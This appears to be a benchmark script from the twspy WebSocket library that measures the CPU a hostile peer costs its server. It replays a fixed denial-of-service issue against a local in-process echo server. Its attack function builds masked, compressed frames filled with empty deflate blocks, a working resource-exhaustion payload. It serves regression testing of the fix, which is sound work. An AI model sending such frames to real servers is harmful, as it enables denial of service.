"""CPU a hostile peer costs the twspy server with empty final deflate blocks (issue 20 item 1).

Usage: python bench/attack_deflate.py [--frames 2] [--size 1048576] [--extension permessage-deflate]

A raw client sends ``--frames`` binary frames of ``03 00`` repeated (complete, empty
BFINAL blocks that inflate to nothing) with RSV1, each on a new connection, to a twspy
echo server running in this process, and prints the CPU seconds the process spent from
the first byte to the server's close (1007 since the fix; before it, each frame was
inflated to nothing at quadratic cost and the connection stayed open).
"""

from __future__ import annotations

import argparse
import os
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

import twspy
from twspy.cli import EchoServer
from twspy.frame import OPCODE_CLOSE, FrameParser, decode_close, mask
from twspy.handshake import make_key, read_head


def attack(port: int, extension: str, size: int) -> str:
    """One connection, one attack frame; the close code or what happened instead."""
    with socket.create_connection(("127.0.0.1", port), timeout=120) as sock:
        sock.sendall(("GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                      "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n"
                      "Sec-WebSocket-Extensions: %s\r\n\r\n" % (make_key(), extension)).encode())
        read_head(sock.recv)
        key = b"\x01\x02\x03\x04"
        payload = b"\x03\x00" * (size // 2)
        sock.sendall(b"\xc2\xff" + len(payload).to_bytes(8, "big") + key + mask(key, payload))
        # A ping behind it: its pong means the server got through the frame without closing.
        sock.sendall(b"\x89\x80" + key)
        parser = FrameParser()
        while True:
            frame = parser.next_frame()
            if frame is None:
                data = sock.recv(65536)
                if not data:
                    return "eof"
                parser.feed(data)
            elif frame.opcode == OPCODE_CLOSE:
                return "close %d" % decode_close(frame.payload)[0]
            elif frame.opcode == 0xA:
                return "survived"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--frames", type=int, default=2)
    parser.add_argument("--size", type=int, default=1 << 20)
    parser.add_argument("--extension", default="permessage-deflate",
                        choices=["permessage-deflate", "deflate-frame"])
    args = parser.parse_args()
    server = EchoServer(("127.0.0.1", 0), extensions=[twspy.DeflateMessage(), twspy.DeflateFrame()],
                        max_size=max(args.size, 1 << 20))
    thread = server.serve_in_thread()
    try:
        cpu, wall = time.process_time(), time.perf_counter()
        outcomes = [attack(server.address[1], args.extension, args.size) for _ in range(args.frames)]
        cpu, wall = time.process_time() - cpu, time.perf_counter() - wall
    finally:
        server.shutdown()
        thread.join(10)
    print("%s: %d frames of %d bytes: %.3f s CPU, %.3f s wall; %s" % (
        args.extension, args.frames, args.size, cpu, wall, ", ".join(outcomes)))


if __name__ == "__main__":
    main()
